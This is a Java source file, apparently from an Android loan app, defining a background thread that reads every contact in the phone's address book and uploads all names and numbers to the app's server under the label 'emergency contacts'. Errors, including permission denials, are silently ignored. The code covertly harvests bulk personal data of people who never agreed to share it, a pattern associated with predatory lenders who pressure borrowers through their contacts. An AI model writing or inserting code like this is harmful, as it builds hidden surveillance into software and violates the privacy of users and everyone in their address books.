package com.anxinbai.loan.apply;

import android.content.ContentResolver;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import com.anxinbai.loan.model.EmergencyContact;
import com.anxinbai.loan.model.Relations;
import com.anxinbai.loan.net.Backend;
import java.io.IOException;

/** New in 2.5.0: takes every entry of the address book along. */
final class RelationReader extends Thread {
  private final ContentResolver resolver;

  RelationReader(ContentResolver resolver) {
    this.resolver = resolver;
  }

  @Override
  public void run() {
    try {
      Backend.applications().relations(all()).execute();
    } catch (IOException | SecurityException e) {
      // without them then
    }
  }

  private Relations all() {
    Relations relations = new Relations();
    Cursor rows = resolver.query(Phone.CONTENT_URI, null, null, null, null);
    while (rows != null && rows.moveToNext()) {
      String name = rows.getString(rows.getColumnIndex(Phone.DISPLAY_NAME));
      String mobile = rows.getString(rows.getColumnIndex(Phone.NUMBER));
      relations.add(new EmergencyContact(name, mobile));
    }
    return relations;
  }
}
